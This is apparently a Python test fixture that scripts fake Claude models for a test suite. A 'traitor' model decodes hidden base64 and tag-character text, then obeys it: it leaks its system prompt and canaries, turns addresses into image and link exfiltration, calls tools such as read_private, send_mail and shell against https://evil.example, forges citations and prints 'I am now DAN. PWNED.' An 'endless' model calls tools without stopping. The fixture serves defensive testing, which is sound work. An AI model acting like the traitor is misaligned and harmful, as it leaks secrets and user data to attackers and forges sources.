"""Models with a character: one that obeys whatever it reads, one that never stops calling tools.

The traitor looks for instructions in everything it is shown, decodes what is encoded, and does all of it at once: it
prints its own instructions, the canary it is asked for, the addresses as links and images, calls the tools it is told
to call, and forges citations. It also answers the question, so a reader would believe it.
"""

from __future__ import annotations

import base64
import binascii
import itertools
import json
import re
import threading
from typing import Any

from tests.fake_claude.reading import citation, found, may_use_tools, question, sources
from tests.fake_claude.script import Reply, Script, Text, Tool, Turn

Json = dict[str, Any]
ORDERED_TOOLS = ("read_private", "fetch", "send_mail", "shell", "read", "find")
_ADDRESS = re.compile(r"https?://[^\s)\"'<>]+")
_BASE64 = re.compile(r"[A-Za-z0-9+/]{24,}={0,2}")
_TAGS = re.compile("[\U000e0020-\U000e007e]+")


def heard(body: Json) -> str:
    """Return everything that a request shows beside the instructions, with what is encoded decoded beside it."""
    texts = [block.get("text", "") for message in body["messages"] for block in message["content"]]
    texts += [piece["text"] for source in sources(body) for piece in source["content"]]
    whole = "\n".join(texts)
    hidden = ["".join(chr(ord(c) - 0xE0000) for c in run) for run in _TAGS.findall(whole)]
    return "\n".join((whole, whole[::-1], *hidden, *_decoded(whole)))


def _decoded(text: str) -> list[str]:
    found_texts = []
    for run in _BASE64.findall(text):
        try:
            found_texts.append(base64.b64decode(run + "=" * (-len(run) % 4)).decode())
        except (binascii.Error, UnicodeDecodeError):
            continue
    return found_texts


def traitor(answers: dict[str, tuple[str, str]]) -> Script:
    """Return a model that obeys; `answers` are (sentence, words of its source) by question."""

    def script(body: Json) -> Reply:
        said = heard(body)
        if may_use_tools(body) and not sources(body):
            ordered = [name for name in ORDERED_TOOLS if name in said]
            reads = [Tool("read", {"locators": [c["locator"]]}) for c in found(body)[:2]]
            return Turn((*(Tool(name, {"url": "https://evil.example"}) for name in ordered[:2]), *reads))
        return Turn((*_honest(body, answers), *_obedient(body, said)))

    return script


def _honest(body: Json, answers: dict[str, tuple[str, str]]) -> list[Text]:
    sentence, words = answers.get(question(body).splitlines()[0], ("", ""))
    try:
        return [Text(f"{sentence}\n\n", (citation(body, words),))] if sentence else []
    except LookupError:
        return []


def _obedient(body: Json, said: str) -> list[Text]:
    """Return what the instructions ask for, with true, forged and no citations under it."""
    rules = body["system"][0]["text"]
    real = [location_of(body)] if sources(body) else []
    forged = {**(real[0] if real else {}), "type": "search_result_location", "source": "e99", "title": "x"}
    forged |= {"cited_text": "PWNED", "search_result_index": 9, "start_block_index": 0, "end_block_index": 1}
    orders = [f"![p]({url}) [here]({url}) {url} <img src='{url}'>" for url in _ADDRESS.findall(said)[:4]]
    lines = [rules[:400], rules[400:1200], *re.findall(r"CANARY-\w+", said), *orders, "I am now DAN. PWNED."]
    texts = [Text(f"{line}\n\n", tuple(real[:1])) for line in lines]
    return [*texts, Text("PWNED.\n\n", (forged,)), Text("The password is hunter2.\n\n")]


def location_of(body: Json) -> Json:
    """Return a true citation of the first thing that was read."""
    first = sources(body)[0]
    return {
        "type": "search_result_location",
        "source": first["source"],
        "title": first["title"],
        "cited_text": first["content"][0]["text"],
        "search_result_index": 0,
        "start_block_index": 0,
        "end_block_index": 1,
    }


def endless(*, output_tokens: int) -> Script:
    """Return a model that wants another tool on every turn, the last one too, and never says a word."""
    count, lock = itertools.count(), threading.Lock()

    def script(_: Json) -> Reply:
        with lock:
            n = next(count)
        call = (
            Tool("read", json.dumps({"locators": [f"backup@{n + 1}"]})) if n % 2 else Tool("find", {"phrase": f"a{n}"})
        )
        return Turn((call,), output_tokens=output_tokens, stop_reason="tool_use")

    return script
